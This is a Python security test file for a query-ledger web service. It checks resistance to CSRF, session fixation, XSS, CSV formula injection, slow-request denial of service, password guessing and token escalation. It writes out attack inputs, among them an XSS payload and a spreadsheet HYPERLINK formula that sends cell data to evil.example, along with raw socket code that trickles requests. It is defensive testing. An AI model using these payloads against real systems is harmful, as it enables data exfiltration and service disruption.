"""What an attacker who has read the code would try: each of these once worked, or might."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import threading
import time
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import httpx
import pytest

from quaestor.ledger import ROLES
from quaestor.service.identity.callers import place_of_client
from tests.service.running import COUNT, PATIENCE, RunningService, made_hospital, running
from tests.service.test_rules import ROUTES

if TYPE_CHECKING:
    from collections.abc import Iterator

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningService]:
    """One of its own: some of these tests shut people out."""
    catalog = made_hospital(tmp_path_factory.mktemp("attacked"))
    with running(catalog, "--time-step", "0.05", "--rate", "100000", "--most-jobs", "3") as started:
        yield started


def _session(service: RunningService, person: str) -> tuple[httpx.Client, str]:
    """Somebody's browser, and the token of its pages."""
    with service.ledger() as ledger:
        link = ledger.people.create_link(person, by="test")
    browser = service.client()
    signed = browser.post("/api/v1/session", json={"link": link})
    return browser, str(signed.json()["csrf_token"])


def test_no_route_changes_anything_for_another_sites_page(service: RunningService) -> None:
    browser, _ = _session(service, "all")
    for method, path, rule in ROUTES:
        if method == "GET" or rule.public:
            continue
        answered = browser.request(method, path, json={})
        assert (answered.status_code, answered.json()["code"]) == (403, "not_allowed"), path
        sent = {"csrf_token": "wrong"}
        answered = browser.request(method, path, data=sent)
        assert answered.status_code == 403, path
    assert browser.get("/api/v1/session").is_success


@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "https://evil.example"},
        {"Origin": "http://127.0.0.1:1"},
    ],
    ids=str,
)
def test_another_sites_page_signs_nobody_in(
    service: RunningService, headers: dict[str, str]
) -> None:
    with service.ledger() as ledger:
        link = ledger.people.create_link("bob", by="test")
    browser = service.client()
    for answered in (
        browser.post("/sign-in", data={"link": link}, headers=headers),
        browser.post("/api/v1/session", json={"link": link}, headers=headers),
    ):
        assert answered.status_code == 403
        assert "set-cookie" not in answered.headers
    own = {"Sec-Fetch-Site": "same-origin", "Origin": "null"}
    assert browser.post("/sign-in", data={"link": link}, headers=own).status_code == 303


def test_a_session_that_was_planted_is_over_after_signing_in(service: RunningService) -> None:
    planted, _ = _session(service, "bob")
    victim = service.client()
    victim.cookies.set("quaestor_session", planted.cookies["quaestor_session"])
    with service.ledger() as ledger:
        link = ledger.people.create_link("ann", by="test")
    victim.post("/sign-in", data={"link": link})
    assert victim.get("/api/v1/session").json()["name"] == "ann"
    assert planted.get("/api/v1/session").status_code == 401


def test_under_tls_a_cookie_that_another_host_could_set_is_nobodys(service: RunningService) -> None:
    with service.ledger() as ledger:
        link = ledger.people.create_link("ann", by="test")
    headers = {"Host": "data.example.org", "X-Forwarded-Proto": "https"}
    browser = service.client()
    given = browser.post("/api/v1/session", json={"link": link}, headers=headers)
    cookie = given.headers["set-cookie"]
    assert cookie.startswith("__Host-quaestor_session=")
    value = cookie.partition("=")[2].partition(";")[0]
    for name, status in (("quaestor_session", 401), ("__Host-quaestor_session", 200)):
        sent = {**headers, "Cookie": f"{name}={value}"}
        assert service.client().get("/api/v1/session", headers=sent).status_code == status


def test_a_new_password_ends_sessions_and_links(service: RunningService) -> None:
    browser, _ = _session(service, "bob")
    with service.ledger() as ledger:
        link = ledger.people.create_link("bob", by="test")
        ledger.people.set_password("bob", "another long password", by="test")
    assert browser.get("/api/v1/session").status_code == 401
    assert service.client().post("/api/v1/session", json={"link": link}).status_code == 401
    assert service.client("bob").get("/api/v1/session").is_success  # tokens are revoked by name


def test_who_else_has_a_quota_is_not_suggested(service: RunningService) -> None:
    with service.ledger() as ledger:
        ledger.people.add("bobb", roles=["analyst"], by="test")
        service.tokens["bobb"] = ledger.people.create_token("bobb", by="test")[1]
    body = {"sql": COUNT, "epsilon": 0.1, "account": "shared"}
    client = service.client("bobb")
    answers = [
        client.get("/api/v1/accounts/shared").text,
        client.get("/api/v1/accounts/shared/history").text,
        client.get("/api/v1/accounts/shared/quota").text,
        client.post("/api/v1/preview", json=body).text,
        json.dumps(service.ask("bobb", COUNT, account="shared")["problem"]),
    ]
    for text in answers:
        assert "'bob'" not in text
        assert '"near":"bob"' not in text.replace(" ", "")
    assert "shared" not in [a["name"] for a in client.get("/api/v1/accounts").json()["accounts"]]


def test_nothing_of_others_questions_is_seen(service: RunningService) -> None:
    job = service.ask("ann", COUNT, key="monday", purpose="mine", audience="analyst:ann")
    bob = service.client("bob")
    for path in (f"/api/v1/jobs/{job['id']}{more}" for more in ("", "/events", "/answer")):
        refused, unknown = bob.get(path), bob.get(path.replace(job["id"], "0" * 24))
        assert refused.status_code == unknown.status_code == 404
        assert refused.text.replace(job["id"], "0" * 24) == unknown.text
    assert bob.delete(f"/api/v1/jobs/{job['id']}").status_code == 404
    own = service.ask("bob", COUNT, key="monday", anew=True)
    assert own["id"] != job["id"]  # the same key of somebody else is another question
    assert job["id"] not in bob.get("/api/v1/jobs").text
    assert "mine" not in bob.get("/api/v1/accounts/research/entries").text


def test_texts_of_analysts_come_back_as_data_and_never_as_pages(service: RunningService) -> None:
    sql = f"/* {MARKUP} */ {COUNT} -- {MARKUP}"
    job = service.ask("ann", sql, purpose=MARKUP, anew=True)
    owner, ann = service.client("olga"), service.client("ann")
    for client, path in (
        (ann, f"/api/v1/jobs/{job['id']}"),
        (ann, f"/api/v1/jobs/{job['id']}/answer"),
        (ann, "/api/v1/jobs"),
        (owner, "/api/v1/accounts/research/entries"),
        (owner, "/api/v1/ledger/export"),
        (owner, "/api/v1/ledger/export?form=csv"),
        (ann, f"/api/v1/accounts/{MARKUP.replace('/', '%2F')}"),
        (ann, f"/api/v1/jobs/{MARKUP.replace('/', '%2F')}"),
    ):
        answered = client.get(path)
        kind = answered.headers["content-type"].partition(";")[0]
        assert kind in {
            "application/json",
            "application/problem+json",
            "application/x-ndjson",
            "text/csv",
        }
        assert answered.headers["x-content-type-options"] == "nosniff"
        assert "script-src" not in answered.headers["content-security-policy"]


def test_an_exported_text_is_no_formula(service: RunningService) -> None:
    service.ask("ann", COUNT, purpose=FORMULA, anew=True)
    owner = service.client("olga")
    written = owner.get("/api/v1/ledger/export", params={"form": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(written)))
    assert f"'{FORMULA}" in {row["purpose"] for row in rows}
    assert not [v for row in rows for v in row.values() if v.startswith(("=", "+", "-", "@"))]
    lines = owner.get("/api/v1/ledger/export").text.splitlines()
    assert FORMULA in {json.loads(line).get("purpose") for line in lines}


def test_who_watches_too_much_is_stopped(tmp_path_factory: pytest.TempPathFactory) -> None:
    catalog = made_hospital(tmp_path_factory.mktemp("watched"))
    with running(catalog, "--time-step", "600", "--most-jobs", "2", "--grace", "0.1") as service:
        client = service.client("ann")
        body = {"sql": COUNT, "epsilon": 0.5, "account": "research"}
        asked = client.post("/api/v1/questions", json=body)
        events = f"{asked.headers['location']}/events"
        with client.stream("GET", events) as one, client.stream("GET", events) as two:
            assert one.status_code == two.status_code == 200
            third = client.get(events)
            assert (third.status_code, third.json()["reason"]) == (429, "too_often")
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline:  # the service notices that nobody listens
            with client.stream("GET", events) as again:
                if again.status_code == 200:
                    return
            time.sleep(0.2)
        raise TimeoutError


def test_addresses_are_counted_by_whom_they_belong_to() -> None:
    assert place_of_client("2001:db8::1") == place_of_client("2001:db8::ffff:1")
    assert place_of_client("2001:db8::1") != place_of_client("2001:db8:0:1::1")
    assert place_of_client("::ffff:10.0.0.1") == place_of_client("10.0.0.1") == "10.0.0.1"
    assert place_of_client("::1") == "::1"
    for text in ("", "<script>", "a" * 100_000, "1.2.3.4, 5.6.7.8"):
        assert place_of_client(text) == "unknown"


def test_what_a_client_says_of_its_address_is_an_address_in_the_trail(
    service: RunningService,
) -> None:
    headers = {"X-Forwarded-For": f"{MARKUP}, {'x' * 5000}"}
    sent = {"name": "nobody", "password": "x" * 12}
    service.client().post("/api/v1/session", json=sent, headers=headers)
    trail = service.client("udo").get("/api/v1/ledger/trail", params={"most": 1000}).json()["trail"]
    failed = [each for each in trail if each["kind"] == "sign_in_failed"]
    assert failed[-1]["detail"] == "unknown"


def _connected(service: RunningService) -> socket.socket:
    parts = urlsplit(service.url)
    return socket.create_connection((parts.hostname, parts.port), timeout=PATIENCE)


def _trickled(service: RunningService, first: bytes, ended: list[Any]) -> None:
    """Send a byte from time to time until the service cuts the connection."""
    with _connected(service) as one:
        one.settimeout(0.5)
        one.sendall(first)
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline:
            try:
                if not one.recv(65536):
                    break
                ended.append("answered")
            except TimeoutError:
                pass
            except OSError:
                break
            try:
                one.sendall(b"a")
            except OSError:
                break
        else:
            return
    ended.append("cut")


HEADERS = [b"", b"GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"GET /hea"]
BODIES = [
    b"POST %s HTTP/1.1\r\nHost: a\r\nContent-Length: 900000\r\n\r\n" % path
    for path in (b"/api/v1/session", b"/nothing/events", b"/x/export", b"/api/v1/jobs/x/events")
]


def _all_end(service: RunningService, starts: list[bytes]) -> None:
    ended: list[list[Any]] = [[] for _ in starts]
    threads = [
        threading.Thread(target=_trickled, args=(service, first, mine))
        for first, mine in zip(starts, ended, strict=True)
    ]
    for thread in threads:
        thread.start()
    assert service.client().get("/health").is_success  # meanwhile others are served
    for thread in threads:
        thread.join()
    for first, mine in zip(starts, ended, strict=True):
        assert mine, first
    assert service.client().get("/health").is_success


def test_who_does_not_finish_a_request_is_cut_off(service: RunningService) -> None:
    _all_end(service, HEADERS)


@pytest.mark.slow
def test_who_does_not_finish_a_body_is_cut_off(service: RunningService) -> None:
    _all_end(service, BODIES)


@pytest.mark.slow
def test_guessing_from_many_addresses_is_stopped_by_name(service: RunningService) -> None:
    with service.ledger() as ledger:
        ledger.people.set_password("petra", "a long enough password", by="test")
    client, statuses = service.client(), []
    for number in range(61):
        headers = {"X-Forwarded-For": f"10.0.{number // 4}.{number}"}
        sent = {"name": "petra", "password": "x" * 12}
        statuses.append(client.post("/api/v1/session", json=sent, headers=headers).status_code)
    assert statuses[-1] == 429
    sent = {"name": "petra", "password": "a long enough password"}
    assert client.post("/api/v1/session", json=sent).status_code == 429


def test_nobody_is_more_than_their_token_allows(service: RunningService) -> None:
    with service.ledger() as ledger:
        narrow = ledger.people.create_token("all", scopes=["auditor"], by="test")[1]
    client = service.client()
    client.headers["Authorization"] = f"Bearer {narrow}"
    assert client.get("/api/v1/session").json()["roles"] == ["auditor"]
    refused = client.post("/api/v1/tokens", json={"scopes": list(ROLES), "days": 3660})
    assert refused.status_code == 403
    assert client.post("/api/v1/people/all/tokens", json={}).status_code == 403
    assert client.post("/api/v1/people/all/links").status_code == 403
    assert client.post("/api/v1/people/all/identities", json={}).status_code == 403


@pytest.mark.slow
def test_long_calculations_keep_nobody_from_the_rest(
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    catalog = made_hospital(tmp_path_factory.mktemp("computing"))
    sampled = "PoissonSampled(release=Gaussian(sigma={}), rate=0.0{})*1000"
    body = {"releases": [sampled.format(1 + i / 7, 10 + i) for i in range(5)]}  # for minutes

    def ask(service: RunningService) -> None:
        with contextlib.suppress(httpx.TransportError):
            service.client("ann").post("/api/v1/accountant/region", json=body)

    with running(catalog, "--rate", "100000", "--grace", "0.1") as service:
        threads = [threading.Thread(target=ask, args=(service,)) for _ in range(10)]
        for thread in threads:
            thread.start()
        time.sleep(2)
        assert service.client("bob").get("/api/v1/session").is_success
        assert "accountant/region" not in service.client("udo").get("/metrics").text
        service.kill()
        for thread in threads:
            thread.join()
